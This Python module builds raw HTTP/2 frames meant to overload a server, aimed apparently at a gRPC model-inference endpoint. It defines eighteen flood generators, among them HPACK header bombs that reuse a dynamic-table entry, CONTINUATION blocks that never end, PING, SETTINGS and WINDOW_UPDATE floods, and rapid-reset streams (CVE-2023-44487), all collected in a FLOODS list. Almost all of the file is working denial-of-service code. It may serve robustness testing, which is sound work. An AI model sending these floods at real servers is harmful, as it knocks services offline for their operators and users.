"""Frames of HTTP/2 that cost a server more than their sender, with their RFC's numbers.

Each is what one connection sends again and again after `START`, and never reads.
"""

from __future__ import annotations

from typing import Final

from http2_wire import frame

START: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
"""The preface (RFC 9113, 3.4) with empty settings."""
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS = 0, 1, 2, 3, 4
_PING, _WINDOW, _CONTINUATION, _UNKNOWN = 6, 8, 9, 0xBE
_END_HEADERS: Final = 4
_END_STREAM: Final = 1
_FRAME_BYTES: Final = 16_384


def _literal(name: bytes, value: bytes, kind: int = 0) -> bytes:
    """A header as it is (RFC 7541, 6.2); kind 0x40 keeps it in the dynamic table."""
    sizes = [b"", b""]
    for number, text in enumerate((name, value)):
        size, rest = len(text), bytearray()
        if size < 127:
            sizes[number] = bytes([size])
            continue
        size -= 127
        rest.append(127)
        while size > 127:
            rest.append(size & 127 | 128)
            size >>= 7
        sizes[number] = bytes([*rest, size])
    return bytes([kind]) + sizes[0] + name + sizes[1] + value


def _call_headers(method: str) -> bytes:
    path = f"/inference.GRPCInferenceService/{method}".encode()
    return (
        b"\x83\x86"  # :method POST, :scheme http
        + _literal(b":path", path)
        + _literal(b":authority", b"x")
        + _literal(b"content-type", b"application/grpc")
        + _literal(b"te", b"trailers")
    )


_CALL_HEADERS: Final = _call_headers("ModelInfer")


def calls(method: str, number: int, message: bytes | None = None) -> bytes:
    """A connection's beginning with calls of one message, or of none that stay open."""
    block = _call_headers(method)
    sent = [START]
    for stream in range(1, 2 * number, 2):
        sent.append(frame(_HEADERS, _END_HEADERS, stream, block))
        if message is not None:
            data = b"\0" + len(message).to_bytes(4, "big") + message
            sent.append(frame(_DATA, _END_STREAM, stream, data))
    return b"".join(sent)


def header_bomb(number: int) -> bytes:
    """A call whose header of 4,000 bytes is repeated by one byte each time."""
    kept = _literal(b"a", b"v" * 4_000, 0x40)
    block = _CALL_HEADERS + kept
    block += b"\xbe" * (_FRAME_BYTES - len(block))  # the latest entry of the table
    return frame(_HEADERS, _END_HEADERS, number, block)


def endless_bomb(number: int) -> bytes:
    """The same in a block that does not end."""
    if number == 1:
        return frame(_HEADERS, 0, 1, _CALL_HEADERS + _literal(b"a", b"v" * 4_000, 0x40))
    return frame(_CONTINUATION, 0, 1, b"\xbe" * _FRAME_BYTES)


def held_calls(number: int) -> bytes:
    """Calls with headers of almost the limit, and no message."""
    block = _CALL_HEADERS + _literal(b"a", b"v" * 3_800, 0x40) + b"\xbe" * 2
    return frame(_HEADERS, _END_HEADERS, number, block)


def resets_of_held_calls(number: int) -> bytes:
    """The same, each cancelled at once."""
    return held_calls(number) + frame(_RESET, 0, number, b"\0\0\0\x08")


def small_headers_bomb(number: int) -> bytes:
    """A call whose header of a few bytes is repeated by one byte each time."""
    block = _CALL_HEADERS + _literal(b"a", b"", 0x40)
    block += b"\xbe" * (_FRAME_BYTES - len(block))
    return frame(_HEADERS, _END_HEADERS, number, block)


def long_headers(number: int) -> bytes:
    """A call with as long headers as a frame holds, none of which is kept."""
    block = _CALL_HEADERS + _literal(b"a", b"v" * 16_000)
    return frame(_HEADERS, _END_HEADERS, number, block)


def static_headers(number: int) -> bytes:
    """A call with as many headers as a frame holds, of one byte each."""
    block = _CALL_HEADERS + b"\x90" * (_FRAME_BYTES - len(_CALL_HEADERS))
    return frame(_HEADERS, _END_HEADERS, number, block)


def continuations(number: int) -> bytes:
    """A header block that does not end."""
    start = frame(_HEADERS, 0, number, _CALL_HEADERS) if number == 1 else b""
    return start + frame(_CONTINUATION, 0, 1, _literal(b"a", b"v" * 100) * 150)


def empty_continuations(number: int) -> bytes:
    """The same, of frames that hold nothing."""
    start = frame(_HEADERS, 0, number, _CALL_HEADERS) if number == 1 else b""
    return start + frame(_CONTINUATION, 0, 1) * 1_000


def pings(_: int) -> bytes:
    """Pings, each of which is to be answered."""
    return frame(_PING, 0, 0, b"12345678") * 1_000


def settings(_: int) -> bytes:
    """Settings, each of which is to be acknowledged."""
    return frame(_SETTINGS, 0, 0) * 1_000


def windows(_: int) -> bytes:
    """Windows that open by one byte."""
    return frame(_WINDOW, 0, 0, b"\0\0\0\1") * 1_000


def priorities(number: int) -> bytes:
    """Priorities of streams that do not exist."""
    return frame(_PRIORITY, 0, number, b"\0\0\0\0\0") * 1_000


def unknown_frames(_: int) -> bytes:
    """Frames of a type that nobody knows, which are to be ignored."""
    return frame(_UNKNOWN, 0, 0) * 1_000


def rapid_resets(number: int) -> bytes:
    """Calls that are cancelled as soon as they are made (CVE-2023-44487)."""
    call = frame(_HEADERS, _END_HEADERS, number, _CALL_HEADERS)
    return call + frame(_RESET, 0, number, b"\0\0\0\x08")


def empty_messages(number: int) -> bytes:
    """A call's data in frames that hold nothing."""
    start = frame(_HEADERS, _END_HEADERS, 1, _CALL_HEADERS) if number == 1 else b""
    return start + frame(_DATA, 0, 1) * 1_000


def long_settings(_: int) -> bytes:
    """Settings that are not empty, each of which is acknowledged."""
    most_streams = b"\0\x03\0\0\0\x10"
    return frame(_SETTINGS, 0, 0, 2 * most_streams) * 1_000


def long_unknown_frames(_: int) -> bytes:
    """Frames with content that are to be ignored."""
    return frame(_UNKNOWN, 0, 0, b"x" * 12) * 1_000


FLOODS: Final = (
    header_bomb,
    endless_bomb,
    held_calls,
    resets_of_held_calls,
    small_headers_bomb,
    long_headers,
    static_headers,
    continuations,
    empty_continuations,
    pings,
    settings,
    windows,
    priorities,
    unknown_frames,
    rapid_resets,
    empty_messages,
    long_settings,
    long_unknown_frames,
)
